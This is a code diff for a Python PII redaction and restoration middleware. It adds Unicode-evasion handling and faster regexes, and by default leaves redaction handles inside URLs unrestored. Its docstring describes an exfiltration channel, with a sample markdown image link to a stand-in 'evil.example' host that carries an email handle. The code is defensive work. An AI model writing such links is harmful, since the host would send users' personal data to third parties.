@@ -54,6 +54,15 @@ IPV4    four dot-separated decimal octets, valid for `ipaddress.IPv4Address`
   `defaultRegion` or read as international with the `+` left out
   (`4155552671`, `14155552671`, `442079460958`).
 
+Evasions. Detection reads a normalised view of the text (textutil.detection_view):
+invisible characters (soft hyphen, zero-width characters, word joiner, BOM, bidi
+controls) are dropped, and fullwidth forms and the digits of other scripts
+(Arabic-Indic, Devanagari, fullwidth, ...) read as ASCII, so `４１５-５５５-２６７１`,
+`٤١٥-٥٥٥-٢٦٧١` and `jane\u200b@example.com` are found. The handle's value is
+always the original text, byte for byte (zero-width characters inside it
+included), so restoration stays exact. Cyrillic or Greek letters inside an
+email address need nothing: Unicode letters count already.
+
 Overlaps are resolved deterministically: the longest match wins, then the one
 that starts first, then the type order LITERAL, EMAIL, CARD, SSN, PHONE, IPV4.
 
@@ -81,6 +90,15 @@ the input back byte for byte: repeated values, values that contain each other,
 and user text that looks like a handle included. Handle-shaped strings with no
 entry in the map are left as they are.
 
+Handles in URLs stay handles. A model can write a handle into a link or an
+image address (`![x](https://evil.example/?q=[EMAIL_1])`, `<mailto:[EMAIL_1]>`,
+a bare `https://...` URL, an `href=`/`src=` value); restoring it there would
+hand the value to whoever serves that address as soon as the host renders or
+fetches it. So by default restoration replaces handles in text only, leaves the
+ones inside URLs as they are and lists them in `metadata.keptInUrls`; with
+`restoreInUrls: true` every handle is restored (the exact round trip then holds
+for any input, URLs the user wrote with PII in them included).
+
 Hand-written detection, on purpose. The libraries that find PII in free text
 either load NLP models at run time (Presidio needs a spaCy model download,
 which this deployment cannot do) or pull in large dependency trees for
@@ -100,15 +118,15 @@ from __future__ import annotations
 import bisect
 import ipaddress
 import re
-from dataclasses import dataclass
 from functools import lru_cache
+from typing import NamedTuple
 
 import phonenumbers
 from stdnum import luhn
 from stdnum.us import ssn as us_ssn
 
 from . import MiddlewareSpec
-from .textutil import check_context, is_text
+from .textutil import check_context, detection_view, is_text, original_offset
 
 # -- handles ------------------------------------------------------------------------------------
 HANDLE_NAME = r"[A-Z][A-Z0-9]*_[0-9]+"
@@ -119,10 +137,11 @@ TYPES = ("LITERAL", "EMAIL", "CARD", "SSN", "PHONE", "IPV4")  # also the tie-bre
 PRIORITY = {kind: i for i, kind in enumerate(TYPES)}
 
 # -- candidate patterns (ASCII digits only: "\d" would also match other scripts' digits) ----------
-# A candidate must not continue a longer token: these guards say what may not touch it. Patterns that start with
-# a digit begin with a lookahead for it, which lets the regex engine skip most positions before the slower
-# lookbehind runs (about twice as fast on prose).
-_NOT_AFTER = r"(?<![\w+\-.])"
+# A candidate must not continue a longer token: these guards say what may not touch it. Every pattern starts with
+# the character it must start with (a digit, "0" or "("), and the guard on the character before it comes right
+# after, as a lookbehind over both: a pattern that starts with a character class lets the regex engine skip ahead
+# to the next such character in C, where a leading lookaround would be tried at every position.
+_NOT_AFTER_BAD = r"[\w+\-.]"
 _NOT_BEFORE = r"(?![\w\-]|\.[0-9])"
 
 EMAIL_RE = re.compile(
@@ -136,29 +155,41 @@ _EMAIL_LOCAL_CHARS = frozenset("%+-.'")
 # Unambiguous on purpose (every group after the first starts with a separator or "("), so a long digit run cannot
 # make the regex engine backtrack through every way of splitting it.
 PHONE_INTL_RE = re.compile(r"\+(?<![\w+]\+)[0-9]+(?:[ .\-]?\([0-9]{1,4}\)[0-9]*|[ .\-][0-9]+)*")
-PHONE_NANP_RE = re.compile(r"(?=[0-9(])" + _NOT_AFTER + r"(?:1[ .\-])?(?:\([0-9]{3}\)[ .\-]?|[0-9]{3}[ .\-])"
-                           r"[0-9]{3}[ .\-][0-9]{4}" + _NOT_BEFORE)
-PHONE_TRUNK0_RE = re.compile(r"(?=[0(])" + _NOT_AFTER + r"(?:\(0[0-9]{1,4}\)|0[0-9]{1,4})(?:[ .\-][0-9]{2,8}){1,4}"
-                             + _NOT_BEFORE)
-PHONE_BARE_RE = re.compile(r"(?=[0-9])" + _NOT_AFTER + r"[0-9]{10,15}" + _NOT_BEFORE)
+# North American numbers, `(1-)415-555-2671` starting with a digit and `(415) 555-2671` starting with "(".
+_NANP_AREA = r"(?:\([0-9]{3}\)[ .\-]?|[0-9]{3}[ .\-])"
+PHONE_NANP_RES = (
+    re.compile(rf"[0-9](?<!{_NOT_AFTER_BAD}[0-9])(?:(?<=1)[ .\-]{_NANP_AREA}|[0-9]{{2}}[ .\-])"
+               rf"[0-9]{{3}}[ .\-][0-9]{{4}}{_NOT_BEFORE}"),
+    re.compile(rf"\((?<!{_NOT_AFTER_BAD}\()[0-9]{{3}}\)[ .\-]?[0-9]{{3}}[ .\-][0-9]{{4}}{_NOT_BEFORE}"),
+)
+_TRUNK0_GROUPS = r"(?:[ .\-][0-9]{2,8}){1,4}"
+PHONE_TRUNK0_RES = (
+    re.compile(rf"0(?<!{_NOT_AFTER_BAD}0)[0-9]{{1,4}}{_TRUNK0_GROUPS}{_NOT_BEFORE}"),
+    re.compile(rf"\((?<!{_NOT_AFTER_BAD}\()0[0-9]{{1,4}}\){_TRUNK0_GROUPS}{_NOT_BEFORE}"),
+)
+PHONE_BARE_RE = re.compile(rf"[0-9](?<!{_NOT_AFTER_BAD}[0-9])[0-9]{{9,14}}{_NOT_BEFORE}")
+_ANY_DIGIT_RE = re.compile(r"[0-9]")
 DATE_SHAPE_RE = re.compile(r"^[0-9]{1,4}([./\-])[0-9]{1,2}\1[0-9]{1,4}$")
 _SEPARATOR_RE = re.compile(r"[ .\-](?=[0-9(])|(?<=[0-9)])(?=\()")
 
 # ###-##-#### or a bare ###-##-#### without dashes; which of them count is decided in _ssns.
-SSN_SHAPE_RE = re.compile(r"(?=[0-9])(?<![\w\-])[0-9]{3}(?:-[0-9]{2}-|[0-9]{2})[0-9]{4}" + _NOT_BEFORE)
+SSN_SHAPE_RE = re.compile(r"[0-9](?<![\w\-][0-9])[0-9]{2}(?:-[0-9]{2}-|[0-9]{2})[0-9]{4}" + _NOT_BEFORE)
 SSN_LABEL_BEFORE_RE = re.compile(
     r"(?i:\b(?:ssn|social[ \-]security(?:[ \-](?:number|no\.?|#))?)(?![\w]))"
     r"[ \t]*[:#=]?[ \t]*(?:(?i:is|was)[ \t]+)?$")
 
-CARD_RUN_RE = re.compile(r"(?=[0-9])" + _NOT_AFTER + r"[0-9]+(?:[ \-][0-9]+)*" + _NOT_BEFORE)
+# Runs of digit groups with at least 13 digits (the lookahead), so the many short numbers of prose never reach
+# Python code.
+CARD_RUN_RE = re.compile(rf"[0-9](?<!{_NOT_AFTER_BAD}[0-9])(?=(?:[ \-]?[0-9]){{12}})[0-9]*(?:[ \-][0-9]+)*"
+                         + _NOT_BEFORE)
 _CARD_GROUPINGS = {(4, 6, 5), (4, 6, 4)}
+_CARD_GROUP_RE = re.compile(r"(?<![0-9])[0-9]{4}(?![0-9])|[0-9]{13}")
 
-IPV4_RE = re.compile(r"(?=[0-9])(?<![\w.])[0-9]{1,3}(?:\.[0-9]{1,3}){3}(?![\w]|\.[0-9])")
+IPV4_RE = re.compile(r"[0-9](?<![\w.][0-9])[0-9]{0,2}(?:\.[0-9]{1,3}){3}(?![\w]|\.[0-9])")
 _VERSION_WORD_RE = re.compile(r"(?i)\b(?:version|release|build|ver\.?)[ \t]*:?[ \t]*$")
 
 
-@dataclass(frozen=True, order=True)
-class Found:
+class Found(NamedTuple):  # a tuple, so sorting compares in C
     start: int
     end: int
     kind: str
@@ -174,20 +205,31 @@ def _valid_phone(candidate: str, region: str | None) -> bool:
     return phonenumbers.is_valid_number(number)
 
 
+_NON_DIGITS_RE = re.compile(r"[^0-9]+")
+
+
 def _digits(text: str) -> str:
-    return "".join(ch for ch in text if "0" <= ch <= "9")
+    return _NON_DIGITS_RE.sub("", text)
+
+
+_MAX_PHONE_DIGITS = 17  # E.164 allows 15, plus a "(0)" trunk digit and some slack
+_TOO_MANY_DIGITS_RE = re.compile(r"(?:[^0-9]*[0-9]){%d}" % (_MAX_PHONE_DIGITS + 1))
 
 
 def _longest_valid_prefix(candidate: str, region: str | None, min_digits: int = 7) -> int:
-    """Length of the longest prefix ending at a group boundary that is a valid phone number, or 0."""
-    cuts = [len(candidate)] + [m.start() for m in _SEPARATOR_RE.finditer(candidate)][::-1]
+    """Length of the longest prefix ending at a group boundary that is a valid phone number, or 0.
+
+    Only the part before the 18th digit can be a number, so the candidate is cut there first: a run of thousands
+    of groups ("+1 1 1 1 ...") costs one bounded look, not one digit count per group (which was quadratic).
+    """
+    too_many = _TOO_MANY_DIGITS_RE.match(candidate)
+    head = candidate if too_many is None else candidate[:too_many.end() - 1]
+    cuts = ([len(candidate)] if too_many is None else []) + [m.start() for m in _SEPARATOR_RE.finditer(head)][::-1]
     for cut in cuts:
         prefix = candidate[:cut].rstrip(" .-(")
         digits = len(_digits(prefix))
         if digits < min_digits:
             break
-        if digits > 17:  # E.164 allows 15, plus a "(0)" trunk digit and some slack
-            continue
         if not DATE_SHAPE_RE.match(prefix) and _valid_phone(prefix, region):
             return len(prefix)
     return 0
@@ -211,30 +253,60 @@ def _card_ok(groups: list[str], separators: set[str]) -> bool:
 
 
 def _ipv4_ok(candidate: str, text: str, start: int) -> bool:
+    if _VERSION_WORD_RE.search(text, max(0, start - 24), start):
+        return False
     try:
         ipaddress.IPv4Address(candidate)
     except ValueError:
         return False
-    return not _VERSION_WORD_RE.search(text, max(0, start - 24), start)
+    return True
 
 
 # -- detectors -------------------------------------------------------------------------------------
+_EMAIL_LOCAL_RE = re.compile(r"(?<![\w%+.\-])[\w%+\-]+(?:[.'][\w%+\-]+)*@")
+# "@" and a domain: labels cannot contain a dot, so backtracking is linear in the domain's length.
+_EMAIL_AT_DOMAIN_RE = re.compile(r"@(?:[^\W_](?:[^\W_]|-)*\.)+[^\W\d_]{2,63}(?![\w\-])")
+_DOUBLE_SEPARATOR_RE = re.compile(r"[.'](?=[.'])")
+_MAX_LOCAL, _MAX_DOMAIN = 256, 255  # RFC 5321 allows 64 and 255; the local bound is generous on purpose
+
+
+def _email_start(text: str, left: int, at: int) -> int:
+    """Where EMAIL_RE's leftmost match ending at the "@" `at` starts, given the run of local characters from `left`.
+
+    A match starts at `left` or right after an apostrophe (the only local character the lookbehind allows before
+    it), and after the last doubled separator; so one look suffices instead of one regex match per position.
+    """
+    if at == left or text[at - 1] in ".'":
+        return -1
+    lowest = left
+    for m in _DOUBLE_SEPARATOR_RE.finditer(text, left, at):
+        lowest = m.start() + 1
+    start = lowest
+    while start < at:
+        if (start == left or text[start - 1] == "'") and _EMAIL_LOCAL_RE.match(text, start, at + 1):
+            return start
+        apostrophe = text.find("'", start, at)
+        if apostrophe < 0:
+            return -1
+        start = apostrophe + 1
+    return -1
+
+
 def _emails(text: str):
-    """EMAIL_RE's matches, found from the (rare) "@" signs instead of trying the pattern at every position."""
+    """EMAIL_RE's matches, found from "@" + domain matches (in C) and one bounded look at each local part."""
     done = 0  # matches never overlap: nothing before the end of the previous one is looked at again
-    at = text.find("@")
-    while at >= 0:
+    for domain in _EMAIL_AT_DOMAIN_RE.finditer(text):
+        at = domain.start()
+        if at < done or domain.end() - at - 1 > _MAX_DOMAIN:
+            continue
         left = at
-        while left > done and at - left < 256 and (text[left - 1].isalnum() or text[left - 1] == "_"
-                                                   or text[left - 1] in _EMAIL_LOCAL_CHARS):
+        while left > done and at - left < _MAX_LOCAL and (text[left - 1].isalnum() or text[left - 1] == "_"
+                                                          or text[left - 1] in _EMAIL_LOCAL_CHARS):
             left -= 1
-        for start in range(left, at):  # the leftmost start whose match spans this "@", as finditer would find
-            m = EMAIL_RE.match(text, start)
-            if m:
-                yield Found(m.start(), m.end(), "EMAIL")
-                done = m.end()
-                break
-        at = text.find("@", max(at + 1, done))
+        start = _email_start(text, left, at)
+        if start >= 0:
+            yield Found(start, domain.end(), "EMAIL")
+            done = domain.end()
 
 
 def _phones(text: str, strict: bool, region: str):
@@ -243,14 +315,16 @@ def _phones(text: str, strict: bool, region: str):
             n = _longest_valid_prefix(m.group(), None)
             if n:
                 yield Found(m.start(), m.start() + n, "PHONE")
-    for m in PHONE_NANP_RE.finditer(text):
-        if _valid_phone(m.group(), "US"):
-            yield Found(m.start(), m.end(), "PHONE")
+    for pattern in PHONE_NANP_RES:
+        for m in pattern.finditer(text):
+            if _valid_phone(m.group(), "US"):
+                yield Found(m.start(), m.end(), "PHONE")
     if phonenumbers.ndd_prefix_for_region(region, True) == "0":
-        for m in PHONE_TRUNK0_RE.finditer(text):
-            n = _longest_valid_prefix(m.group(), region)
-            if n:
-                yield Found(m.start(), m.start() + n, "PHONE")
+        for pattern in PHONE_TRUNK0_RES:
+            for m in pattern.finditer(text):
+                n = _longest_valid_prefix(m.group(), region)
+                if n:
+                    yield Found(m.start(), m.start() + n, "PHONE")
     if strict:
         for m in PHONE_BARE_RE.finditer(text):
             if _valid_phone(m.group(), region) or _valid_phone("+" + m.group(), None):
@@ -271,7 +345,11 @@ def _ssns(text: str, strict: bool):
 def _cards(text: str):
     for m in CARD_RUN_RE.finditer(text):
         run = m.group()
-        if len(run) < 13:
+        if run.isdigit():  # one group (the common case in prose: order and account numbers)
+            if 13 <= len(run) <= 19 and run[0] in "23456" and luhn.is_valid(run):
+                yield Found(m.start(), m.end(), "CARD")
+            continue
+        if not _CARD_GROUP_RE.search(run):  # no 4-digit group and no 13-digit run: nothing here can be a card
             continue
         parts = re.split(r"([ \-])", run)
         groups, seps = parts[0::2], parts[1::2]
@@ -281,6 +359,8 @@ def _cards(text: str):
             pos += len(group) + (1 if i < len(seps) else 0)
         best = None  # (length, -start) of the longest, then earliest, valid sub-run of whole groups
         for i in range(len(groups)):
+            if len(groups) > 1 and len(groups[i]) != 4 and not 13 <= len(groups[i]) <= 19:
+                continue  # every card grouping starts with a 4-digit group, or is one run of 13-19 digits
             count = 0
             for j in range(i, len(groups)):
                 count += len(groups[j])
@@ -302,9 +382,16 @@ def _ipv4s(text: str):
 
 def find_pii(text: str, strict: bool = False, region: str = "US") -> list[Found]:
     """Every PII span of `text`, non-overlapping, in text order (see the module docstring)."""
-    literals = [Found(m.start(), m.end(), "LITERAL") for m in HANDLE_RE.finditer(text)]
-    candidates = [*_emails(text), *_cards(text), *_ssns(text, strict), *_phones(text, strict, region),
-                  *_ipv4s(text)]
+    literals = [Found(m.start(), m.end(), "LITERAL") for m in HANDLE_RE.finditer(text)] if "[" in text else []
+    view, breaks = detection_view(text)  # invisible characters, fullwidth forms, other scripts' digits
+    candidates = list(_emails(view)) if "@" in view else []
+    if _ANY_DIGIT_RE.search(view):  # every other detector needs a digit
+        candidates += [*_cards(view), *_ssns(view, strict), *_phones(view, strict, region), *_ipv4s(view)]
+    if not candidates:
+        return literals
+    if breaks:  # back to the original's offsets: a span keeps the invisible characters inside it
+        candidates = [Found(original_offset(breaks, f.start), original_offset(breaks, f.end - 1) + 1, f.kind)
+                      for f in candidates]
     candidates.sort(key=lambda f: (f.start - f.end, f.start, PRIORITY[f.kind]))
     starts = [f.start for f in literals]  # handle-shaped text is claimed first; chosen spans never overlap
     ends = [f.end for f in literals]
@@ -373,11 +460,31 @@ def redact_text(text: str, handles: HandleMap, strict: bool = False, region: str
     return "".join(out)
 
 
-def restore_text(text: str, redactions: dict[str, str], unknown: list[str] | None = None) -> tuple[str, int]:
+# Where a restored value would leave the text: the whitespace-free token a handle sits in is part of a markdown
+# link/image destination ("](" not yet closed), a bare URL ("://"), an autolink or mailto/data URI, or an
+# href/src value. Only the tokens around handles are looked at, so restoring 1 MB costs what the handles cost.
+_URL_TOKEN_RE = re.compile(r"://|^<?(?i:mailto|data):|(?i:(?:href|src|action|formaction)\s*=)")
+_URL_LOOKBACK = 4096
+
+
+def _in_url(text: str, position: int) -> bool:
+    window = max(0, position - _URL_LOOKBACK)
+    start = max(text.rfind(space, window, position) for space in " \n\t\r") + 1
+    token = text[max(start, window):position]
+    link = token.rfind("](")
+    return (link >= 0 and ")" not in token[link:]) or _URL_TOKEN_RE.search(token) is not None
+
+
+def restore_text(text: str, redactions: dict[str, str], unknown: list[str] | None = None,
+                 in_urls: bool = True, kept: list[str] | None = None) -> tuple[str, int]:
     restored = 0
 
     def swap(m: re.Match) -> str:
         nonlocal restored
+        if not in_urls and m.group(1) in redactions and _in_url(text, m.start()):
+            if kept is not None and m.group(1) not in kept:
+                kept.append(m.group(1))
+            return m.group(0)
         value = redactions.get(m.group(1))
         if value is None:
             if unknown is not None and m.group(1) not in unknown:
@@ -416,6 +523,11 @@ RESTORATION_SCHEMA = {
     "type": "object",
     "properties": {
         "redactions": {**_MAP_SCHEMA, "description": "handle -> original value, as pii_redaction returned it"},
+        "restoreInUrls": {
+            "type": "boolean", "default": False,
+            "description": "also restore handles inside URLs (markdown link and image destinations, autolinks, bare "
+                           "URLs, href/src values); off by default so a value cannot leave through an address "
+                           "the model wrote"},
     },
     "required": ["redactions"],
     "additionalProperties": False,
@@ -445,16 +557,21 @@ def pii_restoration(context: list[dict], arguments: dict) -> dict:
     if "redactions" not in arguments:
         raise ValueError("redactions (the handle -> value map pii_redaction returned) is required")
     redactions = validate_map(arguments["redactions"], "redactions")
-    total, unknown = 0, []
+    in_urls = arguments.get("restoreInUrls", False)
+    if not isinstance(in_urls, bool):
+        raise ValueError("restoreInUrls must be true or false")
+    total, unknown, kept = 0, [], []
     content = []
     for block in context:
         if is_text(block):
-            text, n = restore_text(block["text"], redactions, unknown)
+            text, n = restore_text(block["text"], redactions, unknown, in_urls, kept)
             block, total = {**block, "text": text}, total + n
         content.append(block)
     metadata: dict = {"restored": total}
     if unknown:
         metadata["unknownHandles"] = unknown
+    if kept:
+        metadata["keptInUrls"] = kept
     return {"content": content, "metadata": metadata}
 
 
@@ -468,5 +585,5 @@ DEFINITION = MiddlewareSpec(
 RESTORATION = MiddlewareSpec(
     "pii_restoration",
     "Replace every [HANDLE] in text blocks with its original value from `redactions`, exactly; unknown handles "
-    "are left as they are.",
+    "are left as they are, and so are handles inside URLs (metadata.keptInUrls) unless restoreInUrls is true.",
     RESTORATION_SCHEMA, pii_restoration)
